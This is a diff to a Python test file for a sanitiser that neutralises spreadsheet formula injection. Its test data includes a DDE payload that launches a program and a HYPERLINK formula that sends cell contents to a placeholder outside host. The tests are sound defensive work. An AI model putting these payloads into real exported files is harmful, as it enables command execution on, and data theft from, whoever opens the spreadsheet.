@@ -1,10 +1,13 @@
 """What a spreadsheet would run, and what it would not."""
 
+import duckdb
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from analysis.report.spreadsheet import harmless
+from analysis.report.job import HARMLESS
+
+_DUCK = duckdb.connect()
 
 FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://192.0.2.1/"&A1)']
 BEFORE = [
@@ -33,6 +36,11 @@ FORMS = {
 }
 
 
+def harmless(name: str) -> str:
+    [[written]] = _DUCK.execute(f"SELECT {HARMLESS} FROM (SELECT ? AS name)", [name]).fetchall()  # noqa: S608  our own
+    return str(written)
+
+
 @pytest.mark.parametrize("before", BEFORE)
 @pytest.mark.parametrize("formula", FORMULAS)
 def test_a_formula_is_none(before: str, formula: str) -> None:
@@ -56,11 +64,6 @@ def test_what_begins_with_something_unseen_stays_in_its_cell(name: str) -> None:
 )
 def test_a_name_is_itself(name: str) -> None:
     assert harmless(name) == name
-
-
-@pytest.mark.parametrize("value", [-1, -1.5, 0, None, True])
-def test_a_number_is_itself(value: object) -> None:
-    assert harmless(value) is value
 
 
 @given(st.text())
